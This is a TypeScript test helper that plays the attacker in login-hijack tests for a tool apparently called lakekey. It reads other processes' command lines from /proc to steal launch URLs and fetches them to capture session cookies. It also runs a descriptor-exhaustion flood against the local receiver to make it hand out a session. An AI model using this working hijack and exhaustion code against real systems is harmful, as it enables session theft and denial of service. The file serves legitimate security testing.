// The attacker's side of the login-hijack tests: a separate process (run as another local user
// where the test can arrange it) that does what any local user can on a machine whose /proc is
// not mounted with hidepid: read other processes' command lines, find what a lakekey login gave
// its browser there, and use it. Since security round 3 that is the private launch page
// (file://…/launch-<hex>.html); the hijacker reads it if it can (only the user themselves can).
// It prints one JSON line with what it got.
//   node hijacker.js steal MARK [PROXY]   find a launch URL or page on a command line that also
//                                         shows MARK (so parallel tests never steal each other's),
//                                         and GET the launch URL (no redirects), through PROXY
//                                         (an HTTP proxy URL) when given
//   node hijacker.js get URL [PROXY]      GET any URL (no redirects), e.g. to deliver a code
//   node hijacker.js flood N URL          hold up to N idle connections to URL's port open (to use
//                                         up the receiver's file descriptors), then GET URL
import { readdirSync, readFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { isMain } from './is-main.js';
import { LAUNCH, LAUNCH_PAGE, launchUrlOf } from './launch-url.js';

export interface Stolen {
  /** The launch URL, when the attacker got it. */
  url: string | null;
  /** The launch page seen on the command line, when that is what the browser was given. */
  page: string | null;
  /** Why the page could not be read (EACCES for another user). */
  pageError: string | null;
  /** The GET's status, or 0 when there was nothing to GET. */
  status: number;
  location: string | null;
  cookie: string | null;
  text: string;
}

/** The first launch URL or launch page on a command line showing `mark`, polling until `deadlineMs`. */
async function findOnCommandLine(mark: string, deadlineMs: number): Promise<string> {
  while (Date.now() < deadlineMs) {
    for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
      let cmdline = '';
      try {
        cmdline = readFileSync(`/proc/${pid}/cmdline`, 'latin1').replaceAll('\0', ' ');
      } catch {
        continue; // the process ended
      }
      const m = LAUNCH.exec(cmdline) ?? LAUNCH_PAGE.exec(cmdline);
      if (m && cmdline.includes(mark) && pid !== String(process.pid)) return m[0];
    }
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error('no lakekey launch URL or page on any command line');
}

/** GET `url` without following redirects, directly or through an HTTP proxy on loopback. */
function get(url: string, proxy?: string, timeoutMs = 30_000): Promise<Omit<Stolen, 'page' | 'pageError'>> {
  const target = new URL(url);
  const via = proxy ? new URL(proxy) : target;
  return new Promise((resolve, reject) => {
    const req = http.get(
      {
        host: via.hostname,
        port: via.port,
        path: proxy ? target.href : `${target.pathname}${target.search}`,
        headers: { host: target.host },
        timeout: timeoutMs,
      },
      (res) => {
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (d: string) => (body += d));
        res.on('end', () =>
          resolve({
            url,
            status: res.statusCode ?? 0,
            location: res.headers.location ?? null,
            cookie: res.headers['set-cookie']?.[0] ?? null,
            text: body.replace(/<[^>]+>/g, ' '),
          }),
        );
      },
    );
    req.on('timeout', () => req.destroy(new Error('timed out')));
    req.on('error', reject);
  });
}

async function steal(mark: string, proxy?: string): Promise<Stolen> {
  const found = await findOnCommandLine(mark, Date.now() + 60_000);
  const page = found.startsWith('file:') ? found : null;
  let url: string;
  try {
    url = launchUrlOf(found);
  } catch (err) {
    return { url: null, page, pageError: (err as NodeJS.ErrnoException).code ?? String(err), status: 0, location: null, cookie: null, text: '' };
  }
  return { ...(await get(url, proxy)), page, pageError: null };
}

/**
 * The descriptor-exhaustion attack: hold N idle connections to the receiver (more than it has
 * descriptors for; the kernel queues the rest), then for up to 15 s free one at a time and GET
 * `url` right after: as the receiver closes idle connections and takes queued ones, some request
 * meets a receiver with one descriptor for the connection and none for reading the socket table.
 * Returns the first answer that handed something out, or the last.
 */
async function flood(n: number, url: string): Promise<Omit<Stolen, 'page' | 'pageError'> & { held: number }> {
  const target = new URL(url);
  const held: net.Socket[] = [];
  const open = () =>
    new Promise<net.Socket | null>((resolve) => {
      const s = net.connect(Number(target.port), target.hostname, () => resolve(s));
      s.on('error', () => resolve(null));
    });
  try {
    while (held.length < n) {
      const batch = await Promise.all(Array.from({ length: 50 }, open));
      held.push(...batch.filter((s): s is net.Socket => s !== null));
      if (batch.every((s) => s === null)) break;
    }
    const maxHeld = held.length;
    let last: Omit<Stolen, 'page' | 'pageError'> = { url, status: 0, location: null, cookie: null, text: '' };
    for (const deadline = Date.now() + 15_000; Date.now() < deadline;) {
      held.shift()?.destroy();
      last = await get(url, undefined, 2000).catch((err: unknown) => ({
        url,
        status: 0,
        location: null,
        cookie: null,
        text: err instanceof Error ? err.message : String(err),
      }));
      if (last.status === 302 || last.cookie) break;
      await new Promise((r) => setTimeout(r, 250));
    }
    return { ...last, held: maxHeld };
  } finally {
    for (const s of held) s.destroy();
  }
}

if (isMain(import.meta.url)) {
  const [mode, arg, proxy] = process.argv.slice(2);
  const work =
    mode === 'steal'
      ? steal(arg ?? '', proxy)
      : mode === 'flood'
        ? flood(Number(arg), proxy ?? '')
        : get(arg ?? '', proxy).then((r) => ({ ...r, page: null, pageError: null }));
  work.then(
    (r) => {
      process.stdout.write(`${JSON.stringify(r)}\n`);
      process.exit(0);
    },
    (err: unknown) => {
      process.stderr.write(`hijacker: ${err instanceof Error ? err.message : String(err)}\n`);
      process.exit(1);
    },
  );
}
